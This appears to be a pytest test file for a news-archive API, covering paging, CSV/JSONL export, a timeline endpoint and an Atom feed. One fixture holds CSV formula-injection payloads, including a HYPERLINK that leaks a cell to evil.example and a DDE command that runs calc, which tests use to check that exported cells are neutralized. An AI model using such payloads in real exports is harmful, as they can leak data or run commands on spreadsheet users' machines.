"""Harvesting over the API: cursor paging, CSV/JSONL export, timeline and the Atom feed."""

from __future__ import annotations

import codecs
import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from conftest import SAMPLE_RECORDS, make_record, sample_home
from frictionless_cli import frictionless_validate
from starlette.testclient import TestClient

from api.app import create_app
from api.routes.exports import csv_cell
from archive.home import DataHome
from archive.model import Attachment
from archive.store import RecordStore
from archive.tableschema import CSV_COLUMNS, CSV_DIALECT, LIST_SEPARATOR, record_csv_schema, record_row
from index.whoosh.store import IndexWriter

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    home = sample_home(tmp_path_factory.mktemp("harvest"))
    with TestClient(create_app(home), raise_server_exceptions=False) as test_client:
        yield test_client


def test_cursor_paging_walks_every_hit_once(client: TestClient) -> None:
    seen: list[str] = []
    url: str | None = "/api/v1/search?sort=newest&size=1"
    while url:
        body = client.get(url).json()
        seen += [hit["id"] for hit in body["hits"]]
        url = body["next"]
        assert len(seen) <= len(SAMPLE_RECORDS)
    assert seen == [SAMPLE_RECORDS[i].id for i in (1, 2, 0)]


def test_tampered_cursor_is_a_400(client: TestClient) -> None:
    first = client.get("/api/v1/search?sort=newest&size=1").json()
    cursor = first["next_cursor"]
    assert cursor
    bad = client.get("/api/v1/search", params={"sort": "newest", "size": 1, "cursor": cursor[:-3] + "AAA"})
    assert bad.status_code == 400
    assert bad.json()["type"] == "/problems/invalid-query"
    assert client.get("/api/v1/search", params={"cursor": "garbage"}).status_code == 400


def test_export_jsonl_and_csv(client: TestClient) -> None:
    jsonl = client.get("/api/v1/export", params={"q": '"hoi nghi"', "format": "jsonl"})
    assert jsonl.status_code == 200
    assert jsonl.headers["content-type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in jsonl.text.splitlines()]
    assert {line["id"] for line in lines} == {SAMPLE_RECORDS[0].id, SAMPLE_RECORDS[1].id}
    assert lines[0]["versions"]
    exported = client.get("/api/v1/export", params={"format": "csv", "sort": "oldest"})
    assert exported.headers["content-disposition"] == 'attachment; filename="deptnews-export.csv"'
    assert exported.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert [row["id"] for row in rows] == [SAMPLE_RECORDS[i].id for i in (0, 2, 1)]
    assert rows[0]["author"] == "Hoàng Văn Đồng"
    assert rows[0]["body"] == "\n".join(SAMPLE_RECORDS[0].body)
    assert (rows[0]["published"], rows[0]["published_local"]) == (
        "2010-07-05T00:00:00+07:00",
        "2010-07-05 00:00:00",
    )


def test_csv_starts_with_a_bom_for_spreadsheets_unless_bom_0(client: TestClient) -> None:
    # Excel takes a CSV without a byte order mark for the machine's code page: Vietnamese as mojibake.
    with_bom = client.get("/api/v1/export", params={"format": "csv"}).content
    without = client.get("/api/v1/export", params={"format": "csv", "bom": "0"}).content
    explicit = client.get("/api/v1/export", params={"format": "csv", "bom": "1"}).content
    assert with_bom.startswith(codecs.BOM_UTF8 + b'"id","url"')
    assert without.startswith(b'"id","url"')
    assert with_bom == explicit == codecs.BOM_UTF8 + without
    refused = client.get("/api/v1/export", params={"format": "jsonl", "bom": "0"})
    assert (refused.status_code, refused.json()["parameter"]) == (400, "bom")
    assert client.get("/api/v1/export", params={"bom": "1"}).status_code == 400  # jsonl by default
    assert client.get("/api/v1/export", params={"format": "csv", "bom": "yes"}).status_code == 400


FULL = make_record(
    77,
    "Công bố quyết định về tổ chức bộ máy",
    ["Đoạn một.", 'Đoạn hai, có dấu phẩy và "ngoặc kép".'],
    published=datetime(2024, 3, 1, 8, 30, tzinfo=timezone(timedelta(hours=7))),
    lead="Sáng nay, Sở công bố quyết định.",
    doc_numbers=["1234/QĐ-UBND", "56/2024/NĐ-CP"],
    author="Minh Anh",
    category="Tin tức",
).model_copy(
    update={
        "tags": ["bộ máy", "sáp nhập"],
        "attachments": [
            Attachment(url="http://demo.vn/files/qd.pdf", title="QĐ", type="pdf"),
            Attachment(url="http://demo.vn/files/pl.docx"),
        ],
        "also_at": ["http://demo.vn/print/77"],
        "removed_at": datetime(2025, 7, 1, tzinfo=UTC),
        "removed_reason": "http-404",
        "source_line": "Nguồn: Báo Lạng Sơn",
    }
)


def test_csv_has_every_scalar_field_and_joined_lists(tmp_path_factory: pytest.TempPathFactory) -> None:
    home = DataHome(tmp_path_factory.mktemp("full")).ensure()
    store = RecordStore(home.records_dir)
    store.put(FULL)
    IndexWriter(home.index_dir).rebuild(store)
    with TestClient(create_app(home)) as local:
        exported = local.get("/api/v1/export", params={"format": "csv", "bom": "0"})
    reader = csv.DictReader(io.StringIO(exported.content.decode("utf-8"), newline=""))
    (row,) = list(reader)
    assert reader.fieldnames == [c.name for c in CSV_COLUMNS]
    assert row == record_row(FULL)  # nothing here starts like a formula: the cells are the raw values
    expected = {
        "id": FULL.id,
        "title": FULL.title,
        "lead": FULL.lead,
        "body": 'Đoạn một.\nĐoạn hai, có dấu phẩy và "ngoặc kép".',
        "published": "2024-03-01T08:30:00+07:00",
        "published_local": "2024-03-01 08:30:00",
        "tags": "bộ máy\nsáp nhập",
        "doc_numbers": "1234/QĐ-UBND\n56/2024/NĐ-CP",
        "attachments": "http://demo.vn/files/qd.pdf\nhttp://demo.vn/files/pl.docx",
        "also_at": "http://demo.vn/print/77",
        "removed_at": "2025-07-01T00:00:00+00:00",
        "removed_reason": "http-404",
        "source_line": "Nguồn: Báo Lạng Sơn",
        "captured_at": "2024-01-01T00:00:00+00:00",
        "status": "200",
        "warc_file": "x.warc.gz",
        "offset": "0",
        "length": "1",
        "version": "1",
        "payload_digest": "",
        "repost_of": "",
        "language": "vi",
    }
    assert {key: row[key] for key in expected} == expected
    # Lists split back exactly: no item can hold the separator.
    assert row["tags"].split(LIST_SEPARATOR) == FULL.tags


def test_the_export_validates_against_its_table_schema(client: TestClient, tmp_path: Path) -> None:
    # The export a spreadsheet user downloads (with its byte order mark), checked by frictionless
    # against the Table Schema the dump's records.csv declares.
    exported = client.get("/api/v1/export", params={"format": "csv"})
    (tmp_path / "export.csv").write_bytes(exported.content)
    resource = {
        "name": "export",
        "path": "export.csv",
        "format": "csv",
        "encoding": "utf-8-sig",
        "dialect": CSV_DIALECT,
        "schema": record_csv_schema(),
    }
    (tmp_path / "datapackage.json").write_text(json.dumps({"name": "export", "resources": [resource]}))
    report = frictionless_validate(tmp_path / "datapackage.json")
    assert report["valid"], report
    assert report["tasks"][0]["stats"]["rows"] == len(SAMPLE_RECORDS)


HOSTILE = make_record(
    90,
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    ["+cmd|' /C calc'!A0", "second paragraph"],
    lead="-2+3",
    author="@SUM(1+1)",
    category="\tthẻ",
    department="＝1+1",
    jurisdiction='Tỉnh "A";=1+2',
)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    home = DataHome(tmp_path_factory.mktemp("hostile")).ensure()
    store = RecordStore(home.records_dir)
    store.put(HOSTILE)
    IndexWriter(home.index_dir).rebuild(store)
    with TestClient(create_app(home)) as client:
        exported = client.get("/api/v1/export", params={"format": "csv"})
        jsonl = client.get("/api/v1/export", params={"format": "jsonl"})
    assert exported.status_code == 200
    # Every cell is quoted, so no separator or quote inside a value can start a new cell.
    assert exported.text.removeprefix("\ufeff").startswith('"id","url","title"')
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Bấm vào đây"")"' in exported.text
    (row,) = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline=""))
    assert row["title"] == "'" + HOSTILE.title
    assert row["body"] == "'+cmd|' /C calc'!A0\nsecond paragraph"
    assert row["lead"] == "'-2+3"
    assert row["author"] == "'@SUM(1+1)"
    assert row["category"] == "'\tthẻ"
    assert row["department"] == "'＝1+1"
    assert row["jurisdiction"] == 'Tỉnh "A";=1+2'  # starts harmlessly, and stays one quoted cell
    assert row["id"] == HOSTILE.id
    # JSON Lines are data for programs: raw.
    assert json.loads(jsonl.text)["title"] == HOSTILE.title


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＠x", "'＠x"),
        ("－1", "'－1"),
        ("＋1", "'＋1"),
        ("", ""),
        ("Hội nghị = 1", "Hội nghị = 1"),
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("http://demo.vn/tin-tuc/1", "http://demo.vn/tin-tuc/1"),
    ],
)
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


def test_export_errors_come_before_the_body(client: TestClient) -> None:
    assert client.get("/api/v1/export", params={"format": "xml"}).status_code == 400
    assert client.get("/api/v1/export", params={"q": "- OR"}).status_code == 400
    assert client.get("/api/v1/export", params={"size": "5"}).status_code == 400


def test_timeline(client: TestClient) -> None:
    body = client.get("/api/v1/timeline", params={"interval": "year"}).json()
    assert body == {
        "interval": "year",
        "total": 3,
        "buckets": [
            {"period": "2010", "count": 1},
            {"period": "2015", "count": 1},
            {"period": "2022", "count": 1},
        ],
    }
    months = client.get("/api/v1/timeline", params={"q": '"giao ban"'}).json()
    assert months["buckets"] == [{"period": "2010-07", "count": 1}]
    assert client.get("/api/v1/timeline", params={"interval": "week"}).status_code == 400


def test_atom_feed(client: TestClient) -> None:
    response = client.get("/api/v1/search.atom", params={"q": '<b>&"'})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/atom+xml")
    feed = ET.fromstring(client.get("/api/v1/search.atom").content)
    entries = feed.findall(f"{ATOM}entry")
    assert [e.findtext(f"{ATOM}title") for e in entries] == [SAMPLE_RECORDS[i].title for i in (1, 2, 0)]
    assert entries[0].find(f"{ATOM}link[@rel='alternate']").get("href") == SAMPLE_RECORDS[1].url  # type: ignore[union-attr]
    escaped = ET.fromstring(response.content)
    assert escaped.findtext(f"{ATOM}title") == 'deptnews: <b>&"'
